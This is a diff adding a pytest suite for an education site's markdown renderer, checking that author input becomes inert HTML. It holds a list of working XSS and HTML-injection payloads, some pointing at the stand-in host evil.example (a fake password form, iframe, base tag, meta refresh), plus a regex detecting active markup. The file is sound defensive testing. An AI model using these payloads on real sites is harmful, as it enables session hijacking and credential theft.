@@ -1,0 +1,94 @@
+"""What authors write becomes HTML that cannot act."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from educrowd.core.markdown import render
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
+    "<a href='java&#115;cript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](vbscript:alert(1))",
+    "<div hx-get=/logout hx-trigger=load>x</div>",
+    "<div data-hx-post=/pledges data-hx-trigger=load>x</div>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    "<iframe src=//evil.example></iframe>",
+    "<form action=//evil.example><input name=password><button>Log in</button></form>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<p class=dialog id=studio>x</p>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '```py" onmouseover="alert(1)\nx\n```',
+]
+ACTIVE = re.compile(
+    r"""<(script|style|iframe|form|input|button|base|meta|svg|math|object|embed|link)\b"""
+    r"""|<[^>]*\s(on\w+|hx-[\w-]+|data-[\w-]+|style|srcset|formaction)\s*="""
+    r"""|<[^>]*\s(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_mallory_cannot_smuggle_in_anything_that_acts(attack):
+    html = render(f"Dear reader,\n\n{attack}\n\nyours, Mallory")
+    assert not ACTIVE.search(html)
+    assert 'class="dialog"' not in html and 'id="studio"' not in html
+    assert "Dear reader," in html
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *ATTACKS,
+                "# Title",
+                "**bold**",
+                "> ",
+                "`",
+                "<",
+                ">",
+                '"',
+                "\n\n",
+                "| a |",
+                "&#x",
+            ]
+        )
+    )
+)
+def test_nor_any_mixture_of_attacks(pieces):
+    assert not ACTIVE.search(render(" ".join(pieces)))
+
+
+def test_ada_writes_a_lesson_with_code_tables_and_notes():
+    html = render(
+        "A note.[^1]\n\n```python\nprint(1 < 2)\n```\n\n| star | magnitude |\n|---|--:|\n| Vega | 0.03 |\n\n[^1]: Here."
+    )
+    assert '<code class="language-python">print(1 &lt; 2)\n</code>' in html
+    assert '<td align="right">0.03</td>' in html
+    assert 'href="#fn1"' in html and 'id="fn1"' in html
+
+
+def test_headings_begin_below_the_pages_own_title():
+    assert render("# Stars\n\n## Vega") == "<h2>Stars</h2>\n<h3>Vega</h3>\n"
+    assert render("### Stars\n\n#### Vega") == "<h2>Stars</h2>\n<h3>Vega</h3>\n"
+    assert "<h1" not in render("<h1>Stars</h1>")
+
+
+def test_plain_addresses_become_links_and_images_load_late():
+    assert '<a href="https://example.org/a?b=c&amp;d=e" rel="noopener">' in render(
+        "See https://example.org/a?b=c&d=e."
+    )
+    assert '<img src="/files/vega.jpg" alt="Vega"' in render("![Vega](/files/vega.jpg)")
+    assert 'loading="lazy"' in render("![Vega](/files/vega.jpg)")
+
+
+def test_long_code_can_be_scrolled_by_keyboard():
+    assert '<pre tabindex="0">' in render("    one very long line")
